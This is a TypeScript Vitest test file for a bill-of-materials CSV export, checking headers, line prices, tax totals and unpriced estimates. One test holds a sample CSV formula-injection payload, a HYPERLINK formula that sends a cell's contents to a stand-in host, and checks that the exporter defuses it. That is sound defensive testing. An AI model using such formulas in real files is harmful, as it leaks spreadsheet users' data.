import { describe, expect, it } from 'vitest';
import type { EstimateResult } from '../../../shared/schemas/estimate.js';
import { bomCsv } from '../../../api/exports/bom-csv.js';
import { readCsv, run } from './estimates.js';

/** Lines as objects by header, up to the first empty row (the totals follow it). */
function readBom(text: string) {
  const [header, ...records] = readCsv(text);
  const end = records.findIndex((r) => r.every((c) => c === ''));
  const lines = (end === -1 ? records : records.slice(0, end)).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
  const totals = end === -1 ? [] : records.slice(end + 1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
  return { header, lines, totals };
}

/**
 * The demo checkout priced by hand from the Harbor Lane catalog (EUR, 20 % tax assumed for the test):
 * 3 × 39.00 + 14 × 8.50 + 14 × 0.90 + 1 × 46.00 + 23 × 0.60 + 2 × 1.00
 * = 117.00 + 119.00 + 12.60 + 46.00 + 13.80 + 2.00 = 310.40 net; tax 62.08; gross 372.48.
 */
function pricedByHand(result: EstimateResult): EstimateResult {
  const unpriced = result.bom.filter((l) => l.lineTotal === undefined).length;
  return { ...result, pricing: { source: 'inline', catalogVersion: null, currency: 'EUR', taxRatePercent: 20, net: 310.4, tax: 62.08, gross: 372.48, complete: unpriced === 0, unpricedLines: unpriced } };
}

describe('the bill of materials CSV', () => {
  const checkout = run('harborLaneCheckout');

  it('has one row per line with SKU, quantity, unit and the catalog prices, the currency in the price headers', () => {
    const { header, lines } = readBom(bomCsv(checkout));
    expect(header).toEqual(['sku', 'category', 'description', 'quantity', 'unit', 'unit price (EUR)', 'line total (EUR)', 'note']);
    expect(lines).toHaveLength(checkout.bom.length);
    lines.forEach((row, i) => {
      const line = checkout.bom[i];
      expect(row).toMatchObject({ sku: line.sku ?? '', category: line.category, description: line.description, quantity: String(line.quantity), unit: line.unit });
    });
    const strip = lines.find((l) => l.sku === 'HL-S24-10')!;
    expect(strip).toMatchObject({ quantity: '3', unit: 'reel', 'unit price (EUR)': '39', 'line total (EUR)': '117' }); // 3 × 39.00
    const thin = lines.find((l) => l.sku === 'HL-C050')!;
    expect(Number(thin['line total (EUR)'])).toBeCloseTo(Number(thin.quantity) * 0.6, 9); // 23 m × 0.60
    expect(lines.find((l) => l.category === 'fuse')!.note).toMatch(/not priced/);
  });

  it('adds net, tax with its rate, gross and the currency when the estimate is priced', () => {
    const { totals } = readBom(bomCsv(pricedByHand(checkout)));
    expect(totals.map((t) => [t.description, t['line total (EUR)']])).toEqual([
      ['net', '310.4'],
      ['tax 20 %', '62.08'],
      ['gross', '372.48'],
      ['currency', ''],
    ]);
    expect(totals[3].unit).toBe('EUR');
    expect(totals[0].note).toMatch(/^\d+ lines not priced/); // the fuse, controller, sensors, sensor cable have no price
  });

  it('shows a price-free estimate unpriced: no prices, no totals, no currency', () => {
    const plain = run('alderRowTownhouse');
    expect(plain.pricing).toBeUndefined();
    const { header, lines, totals } = readBom(bomCsv(plain));
    expect(header).toEqual(['sku', 'category', 'description', 'quantity', 'unit', 'unit price', 'line total', 'note']);
    expect(lines).toHaveLength(plain.bom.length);
    expect(lines.every((l) => l['unit price'] === '' && l['line total'] === '')).toBe(true);
    expect(totals).toEqual([]);
  });

  it('guards hostile text cells against formula injection, and leaves the numbers alone', () => {
    const hostile: EstimateResult = {
      ...checkout,
      bom: [
        { sku: '+HL-X', category: 'strip', description: '=HYPERLINK("http://evil.test/?d="&A1,"Click")', quantity: 2, unit: 'reel', unitPrice: 10, lineTotal: 20, note: '@SUM(1+1)' },
        { sku: '-HL-Y', category: 'cable', description: '\tTabbed', quantity: 1, unit: 'm', missing: { kind: 'cable', fields: { crossSectionMm2: 0.5 } } },
      ],
    };
    const text = bomCsv(hostile);
    const { lines } = readBom(text);
    expect(lines[0]).toMatchObject({
      sku: "'+HL-X",
      description: `'=HYPERLINK("http://evil.test/?d="&A1,"Click")`,
      note: "'@SUM(1+1)",
      quantity: '2',
      'unit price (EUR)': '10',
      'line total (EUR)': '20',
    });
    expect(lines[1]).toMatchObject({ sku: "'-HL-Y", description: "'\tTabbed", note: 'missing cable: crossSectionMm2 0.5' });
    // No cell of the file starts with a formula character.
    expect(readCsv(text).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
